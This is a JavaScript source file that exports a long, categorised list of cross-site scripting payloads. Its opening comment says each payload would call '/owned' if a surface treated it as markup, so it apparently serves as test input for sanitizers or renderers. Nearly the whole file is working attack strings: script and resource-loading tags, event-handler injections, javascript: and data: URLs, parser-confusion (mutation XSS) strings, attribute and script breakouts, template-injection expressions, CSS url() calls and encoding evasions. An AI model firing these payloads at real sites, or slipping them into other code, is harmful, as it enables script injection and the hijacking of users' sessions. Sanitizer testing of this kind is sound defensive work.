// Ways to make text run: each would call out to /owned, or make an element, if any surface
// took it for markup. Kinds, in order: elements that load, handlers, addresses, parsers led
// astray, ways out of attributes and scripts, styles, templates, encodings.
const call = "fetch('/owned')";

const elements = [
  `<script>${call}</script>`, `<script src=/owned></script>`, `<ScRiPt>${call}</sCrIpT>`, `<script/x>${call}</script>`, `<script type=module>${call}</script>`, `<script\n>${call}</script\n>`,
  '<img src=/owned>', '<image src=/owned>', '<iframe src=/owned></iframe>', `<iframe srcdoc="<script>${call}</script>"></iframe>`, '<object data=/owned></object>', '<embed src=/owned>',
  '<link rel=stylesheet href=/owned>', '<link rel=prefetch href=/owned>', '<meta http-equiv=refresh content="0;url=/owned">', '<base href=/owned/>', '<video src=/owned></video>', '<audio src=/owned autoplay></audio>',
  '<video poster=/owned></video>', '<source srcset=/owned>', '<picture><source srcset=/owned><img></picture>', '<svg><image href=/owned /></svg>', '<svg><use href=/owned#x /></svg>', '<input type=image src=/owned>',
  '<table background=/owned><td>x</table>', '<form action=/owned><button>x</button></form>', '<frameset><frame src=/owned></frameset>', '<portal src=/owned></portal>', '<track src=/owned>', '<bgsound src=/owned>',
];

const handlers = [
  ['img src=x', 'error'], ['svg', 'load'], ['body', 'load'], ['body', 'pageshow'], ['input autofocus', 'focus'], ['select autofocus', 'focus'], ['textarea autofocus', 'focus'], ['details open', 'toggle'], ['marquee', 'start'],
  ['video', 'loadstart'], ['audio src=x', 'error'], ['p style=animation:x', 'animationstart'], ['p', 'pointerenter'], ['p', 'click'], ['p contenteditable', 'beforeinput'], ['p tabindex=0 autofocus', 'focusin'],
  ['iframe', 'load'], ['object data=x', 'error'], ['embed src=/', 'load'], ['link rel=stylesheet href=x', 'error'], ['style', 'load'], ['script src=x', 'error'], ['dialog open', 'cancel'], ['x popover id=p', 'beforetoggle'],
  ['body', 'hashchange'], ['body', 'message'], ['img src=x loading=lazy', 'error'], ['svg><animate attributeName=x dur=1s', 'begin'], ['math href=x', 'click'], ['button popovertarget=p', 'click'],
].map(([tag, event]) => `<${tag} on${event}="${call}">`);

const addresses = [
  `<a href="javascript:${call}">x</a>`, `<a href="java\tscript:${call}">x</a>`, `<a href=" javascript:${call}">x</a>`, `<a href="JaVaScRiPt:${call}">x</a>`, `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<a href="vbscript:${call}">x</a>`, `<iframe src="javascript:${call}">`, `<form action="javascript:${call}"><input type=submit>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`, `[x](javascript:${call})`,
  `javascript:${call}`, `data:text/html,<script>${call}</script>`,
];

const astray = [
  `<noscript><p title="</noscript><img src=/owned>">`, `<math><mtext><table><mglyph><style><img src=/owned>`, `<svg></p><style><a id="</style><img src=/owned>">`, `<template><script>${call}</script></template>`,
  `<title><img src=/owned></title>`, `<xmp><img src=/owned></xmp>`, `<plaintext><img src=/owned>`, `<!--><img src=/owned>-->`, `<![CDATA[><img src=/owned>]]>`, `<?xml-stylesheet href=/owned?>`, `<textarea></textarea><img src=/owned>`,
  `<select><iframe src=/owned></select>`, `<b><p></b><script>${call}</script>`, `<div is=x shadowrootmode=open><template shadowrootmode=open><img src=/owned></template></div>`,
];

const waysOut = [
  `"><img src=/owned>`, `'><img src=/owned>`, `\`><img src=/owned>`, `</li></ul><img src=/owned>`, `</script><script>${call}</script>`, `</style><script>${call}</script>`, `" onmouseover="${call}`, `' onfocus='${call}' autofocus='`,
  `";${call}//`, `';${call}//`, `\`;${call}//`, `\\";${call}//`, `]]><script>${call}</script>`, `--><script>${call}</script>`, `\${${call}}`, `{{constructor.constructor("${call}")()}}`, `<%= ${call} %>`, `#{${call}}`,
];

const styles = ['<style>*{background:url(/owned)}</style>', '<style>@import "/owned";</style>', '<p style="background:url(/owned)">x</p>', '}*{background:url(/owned)}', 'url(/owned)', 'expression(1)', '::highlight(x){color:red}', '</style><img src=/owned>'];

const encodings = ['&lt;img src=/owned&gt;', '&#60;img src=/owned&#62;', '%3Cimg src=/owned%3E', '\\u003cimg src=/owned\\u003e', '\\x3cimg src=/owned\\x3e', '+ADw-img src=/owned+AD4-', '\uff1cimg src=/owned\uff1e', '<\u0000img src=/owned>', '<img\u2028src=/owned>', '\u202e<img src=/owned>'];

export const payloads = [...elements, ...handlers, ...addresses, ...astray, ...waysOut, ...styles, ...encodings];
